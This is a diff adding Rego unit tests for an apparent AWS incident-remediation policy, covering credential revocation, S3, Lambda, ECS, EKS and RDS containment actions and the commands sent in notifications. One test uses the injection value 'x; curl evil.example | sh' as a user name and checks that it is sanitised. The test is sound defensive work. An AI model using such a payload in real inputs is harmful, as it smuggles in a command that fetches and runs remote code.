@@ -136,8 +136,108 @@ test_instance_credentials_used_elsewhere_detach_the_profile_not_the_key if {
 		"related_resources": [{"kind": "Instance", "id": "i-behind", "tags": {}, "attributes": {}}],
 	}})
 	d := remediate.decision with input as leaked
-	types(d) == {"ec2.detach_instance_profile", "notify"}
+	types(d) == {"iam.revoke_role_sessions", "ec2.detach_instance_profile", "notify"}
 	some a in d.actions
 	a.type == "ec2.detach_instance_profile"
 	a.target == {"kind": "Instance", "id": "i-behind"}
+	some r in d.actions
+	r.type == "iam.revoke_role_sessions"
+	r.target == {"kind": "AccessKey", "id": "ASIAEXAMPLESESSION"}
+	r.params.role_name == "alice"
+}
+
+test_an_attack_sequence_revokes_each_actor_sessions_role if {
+	sequence := object.union(doc("AttackSequence", "", "incident"), {"alert": {
+		"type": "AttackSequence:IAM/CompromisedCredentials",
+		"related_resources": [
+			{"kind": "AccessKey", "id": "ASIAACTOR1", "tags": {}, "attributes": {"session_issuer": "arn:aws:iam::111122223333:role/ops/deployer"}},
+			{"kind": "AccessKey", "id": "ASIANOROLE", "tags": {}, "attributes": {"session_issuer": "arn:aws:iam::111122223333:user/bob"}},
+		],
+	}})
+	d := remediate.decision with input as sequence
+	revoked := {[a.target.id, a.params.role_name] | some a in d.actions; a.type == "iam.revoke_role_sessions"}
+	revoked == {["ASIAACTOR1", "deployer"]}
+}
+
+s3_doc := object.union(doc("S3Bucket", "data-a", "incident"), {"alert": {
+	"type": "Exfiltration:S3/MaliciousIPCaller",
+	"related_resources": [
+		{"kind": "S3Bucket", "id": "data-b", "tags": {}, "attributes": {}},
+		{"kind": "AccessKey", "id": "AKIAUSERKEY", "tags": {}, "attributes": {"user_name": "bob", "user_type": "IAMUser"}},
+	],
+}})
+
+test_an_s3_incident_blocks_public_access_on_every_bucket_and_stops_the_caller_key if {
+	d := remediate.decision with input as s3_doc
+	{a.target.id | some a in d.actions; a.type == "s3.block_public_access"} == {"data-a", "data-b"}
+	some k in d.actions
+	k.type == "iam.deactivate_access_key"
+	k.target.id == "AKIAUSERKEY"
+	k.params.user_name == "bob"
+}
+
+test_a_lambda_incident_throttles_the_function if {
+	d := remediate.decision with input as doc("Lambda", "payments", "incident")
+	types(d) == {"lambda.throttle", "notify"}
+	d.actions[0].type == "lambda.throttle"
+}
+
+ecs_doc := object.union(doc("Container", "prod-ecs", "incident"), {"alert": {
+	"type": "CryptoCurrency:Runtime/BitcoinTool.B", "region": "eu-west-1",
+	"related_resources": [
+		{"kind": "ECSTask", "id": "arn:aws:ecs:eu-west-1:1:task/prod-ecs/abc", "tags": {}, "attributes": {"cluster": "prod-ecs"}},
+		{"kind": "Instance", "id": "i-node", "tags": {}, "attributes": {}},
+	],
+}})
+
+test_an_ecs_incident_contains_the_instance_and_stops_the_task_after_approval if {
+	d := remediate.decision with input as ecs_doc
+	some t in d.actions
+	t.type == "ecs.stop_task"
+	t.requires_approval == true
+	some i in d.actions
+	i.type == "ec2.isolate"
+	i.target.id == "i-node"
+	some n in d.actions
+	n.type == "notify"
+	contains(n.params.message, "aws ecs describe-tasks --cluster prod-ecs --tasks arn:aws:ecs:eu-west-1:1:task/prod-ecs/abc --region eu-west-1")
+}
+
+eks_doc(user) := object.union(doc("EKSCluster", "prod-cluster", "incident"), {"alert": {
+	"type": "Execution:Runtime/NewBinaryExecuted", "region": "eu-west-1",
+	"resource": {"attributes": {"namespace": "default", "workload_name": "app", "workload_type": "pods", "kubernetes_user": user}},
+}})
+
+test_an_eks_incident_carries_the_kubectl_commands if {
+	d := remediate.decision with input as eks_doc("system:serviceaccount:default:app")
+	some n in d.actions
+	n.type == "notify"
+	contains(n.params.message, "aws eks update-kubeconfig --name prod-cluster --region eu-west-1")
+	contains(n.params.message, "kubectl -n default label pod app soar-quarantine=true")
+	contains(n.params.message, "NetworkPolicy")
+	contains(n.params.message, "kubectl auth can-i --list --as system:serviceaccount:default:app")
+}
+
+test_a_hostile_name_is_never_pasted_into_a_command if {
+	d := remediate.decision with input as eks_doc("x; curl evil.example | sh")
+	some n in d.actions
+	n.type == "notify"
+	not contains(n.params.message, "curl evil")
+	contains(n.params.message, "<see the finding: unusual characters>")
+}
+
+test_rds_and_malware_findings_carry_their_commands if {
+	rds := object.union(doc("RDSDBInstance", "orders-db", "incident"), {"alert": {"region": "eu-west-1",
+		"related_resources": [{"kind": "RDSDBUser", "id": "app_user", "tags": {}, "attributes": {}}]}})
+	d := remediate.decision with input as rds
+	some n in d.actions
+	n.type == "notify"
+	contains(n.params.message, "--db-instance-identifier orders-db --no-publicly-accessible")
+	contains(n.params.message, `ALTER ROLE "app_user" NOLOGIN`)
+	object := object.union(doc("S3Object", "arn:aws:s3:::up/in/x.zip", "incident"), {"alert": {
+		"resource": {"attributes": {"bucket_name": "up", "object_key": "in/x.zip"}}}})
+	e := remediate.decision with input as object
+	some m in e.actions
+	m.type == "notify"
+	contains(m.params.message, "put-object-tagging --bucket up --key in/x.zip")
 }
